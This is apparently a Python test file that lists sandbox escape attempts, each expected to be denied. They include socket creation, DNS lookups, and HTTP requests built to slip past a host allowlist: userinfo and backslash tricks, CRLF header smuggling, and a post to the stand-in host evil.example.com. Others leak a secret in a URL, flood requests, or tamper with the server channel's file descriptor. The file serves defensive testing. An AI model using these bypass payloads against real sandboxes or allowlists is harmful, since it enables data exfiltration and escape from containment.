"""Sockets of every kind, and the channel to the server."""
from attack import Attack, tries

SOCKET = "__import__('socket')"

ATTACKS = [
    tries("tcp", "denied crash", f"{SOCKET}.create_connection(('127.0.0.1', PORT), 1) and 'connected'",
          control=True),
    tries("udp", "denied", f"{SOCKET}.socket({SOCKET}.AF_INET, {SOCKET}.SOCK_DGRAM)"),
    tries("unix-socket", "denied crash",
          f"(s := {SOCKET}.socket({SOCKET}.AF_UNIX)).connect(UNIX)", control=True),
    tries("abstract-socket", "denied crash",
          f"(s := {SOCKET}.socket({SOCKET}.AF_UNIX)).connect('\\0' + ABSTRACT)", control=True),
    tries("listen", "denied", f"{SOCKET}.create_server(('127.0.0.1', 0))"),
    tries("raw-socket", "denied",
          f"{SOCKET}.socket({SOCKET}.AF_INET, {SOCKET}.SOCK_RAW, 1)"),
    tries("netlink", "denied", f"{SOCKET}.socket(16, {SOCKET}.SOCK_RAW, 0)"),
    tries("socket-pair", "denied", f"{SOCKET}.socketpair()"),
    tries("name-lookup", "denied crash", f"{SOCKET}.getaddrinfo('example.com', 80)"),
    tries("fetch", "denied crash",
          "__import__('urllib.request').request.urlopen(f'http://127.0.0.1:{PORT}/', timeout=1)"),
    tries("http-elsewhere", "denied", "http.post('https://evil.example.com/', body='x')"),
    tries("http-not-approved", "denied", "http.get('https://listed.example.com/')"),
    tries("http-user-part", "denied", "http.get('https://approved.example.com@evil.example.com/')"),
    tries("http-port", "denied", "http.get('https://approved.example.com:8080/')"),
    tries("http-plain", "denied", "http.get('http://approved.example.com/')"),
    tries("http-literal-address", "denied", "http.get('https://127.0.0.1/')"),
    tries("http-backslash", "denied", "http.get('https://evil.example.com\\\\@approved.example.com/')"),
    tries("http-header-smuggling", "denied",
          "http.get('https://approved.example.com/', headers={'A': 'x\\r\\nHost: evil'})"),
    tries("http-unknown-secret", "denied",
          "http.get('https://approved.example.com/' + secret('signing-key'))"),
    Attack("http-flood", "denied", """
def attack(case):
    for n in range(100):
        http.get("https://approved.example.com/")
"""),
    tries("channel-as-socket", "denied bad_answer timeout", f"{SOCKET}.socket({SOCKET}.AF_UNIX, 1, 0, fileno=3).send(b'x')"),
    tries("channel-write", "denied", "os.write(3, b'\\xff\\xff\\xff\\xff')"),
    tries("channel-read", "denied", "os.read(3, 100)"),
    tries("channel-close", "denied", "os.close(3)"),
    tries("channel-copy", "denied", "os.dup(3)"),
    tries("channel-replace", "denied", "os.dup2(os.open(__file__, os.O_RDONLY), 3)"),
    tries("channel-fcntl", "denied", "__import__('fcntl').fcntl(3, 0, 10)"),
]
